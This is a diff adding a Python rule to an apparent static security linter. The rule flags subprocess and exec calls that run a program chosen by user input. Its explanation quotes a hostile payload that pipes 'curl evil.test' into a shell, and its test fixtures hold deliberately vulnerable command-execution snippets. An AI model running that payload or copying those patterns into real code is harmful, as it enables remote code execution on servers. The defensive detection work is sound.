@@ -1,0 +1,74 @@
+"""TG102: the program a process runs is chosen by the user."""
+
+from __future__ import annotations
+
+import ast
+
+from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection._shell import EXEC_FUNCS, SUBPROCESS_CALLS
+
+_EXEC_CALLS = SUBPROCESS_CALLS | {"asyncio.create_subprocess_exec", "pty.spawn"}
+
+
+def _program(call: ast.Call, callee: str, ctx) -> ast.expr | None:
+    if callee.startswith("os.spawn"):
+        return call.args[1] if len(call.args) > 1 else None
+    if EXEC_FUNCS.match(callee):
+        return call.args[0] if call.args else None
+    first = ctx.argument(call, 0, "args") if callee in SUBPROCESS_CALLS else (call.args[0] if call.args else None)
+    if isinstance(first, (ast.List, ast.Tuple)):
+        return first.elts[0] if first.elts else None
+    return first
+
+
+class TaintedExecutable(Rule):
+    id = "TG102"
+    name = "user-chosen-executable"
+    severity = "critical"
+    confidence = "high"
+    cwe = (78, 88)
+    owasp = "A05:2025"
+    message = "`{callee}` runs a program chosen by user input ({source})"
+    placeholders = {"callee": "subprocess.run", "source": "request data"}
+    aliases = ("B603", "B606", "S603", "S606")
+    what = "The program started by `{callee}` (or its whole argument list) comes from {source}."
+    why = (
+        "An argument list stops shell parsing, but not the choice of program: a request that sends "
+        "`[\"bash\", \"-c\", \"curl evil.test | sh\"]` or `/usr/bin/python3` as the tool name runs anything "
+        "the server account can. Assistants write `subprocess.run(request.json[\"cmd\"])` for \"run a "
+        "task\" endpoints."
+    )
+    how = (
+        "Map a user-supplied *name* to a fixed program from an allow-list (`TOOLS = {\"lint\": [\"ruff\", "
+        "\"check\"]}`) and pass only validated values as later arguments."
+    )
+    example = 'TOOLS = {"lint": ["ruff", "check", "."]}\nsubprocess.run(TOOLS[name], check=True) if name in TOOLS else abort(400)'
+    references = (
+        "https://cwe.mitre.org/data/definitions/78.html",
+        "https://cwe.mitre.org/data/definitions/88.html",
+    )
+    VALID = (
+        'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["git", "log", request.args["ref"]])\n',
+        'import subprocess\nTOOLS = {"lint": ["ruff", "check"]}\ndef f(request):\n'
+        '    name = request.GET["tool"]\n    if name in TOOLS:\n        subprocess.run(TOOLS[name])\n',
+        'import subprocess\ndef f(prog):\n    subprocess.run([prog, "--version"])\n',
+    )
+    INVALID = (
+        Invalid('import subprocess\nfrom flask import request\ndef run():\n    subprocess.run(request.json["argv"])\n'),
+        Invalid('import subprocess, sys\nsubprocess.Popen([sys.argv[1], "--help"])\n'),
+        Invalid('import os\nfrom flask import request\ndef f():\n    os.execvp(request.args["p"], [request.args["p"]])\n'),
+    )
+
+    def visit_Call(self, node: ast.Call, ctx) -> None:
+        callee = ctx.call_name(node) or ""
+        if callee not in _EXEC_CALLS and not EXEC_FUNCS.match(callee):
+            return
+        if ctx.keyword(node, "shell") is not None and callee in SUBPROCESS_CALLS:
+            shell = ctx.keyword(node, "shell").value
+            if not (isinstance(shell, ast.Constant) and not shell.value):
+                return  # TG100's case
+        program = _program(node, callee, ctx)
+        source = ctx.taint(program)
+        if source is None:
+            return
+        ctx.report(self, node, details={"callee": callee}, source=source)
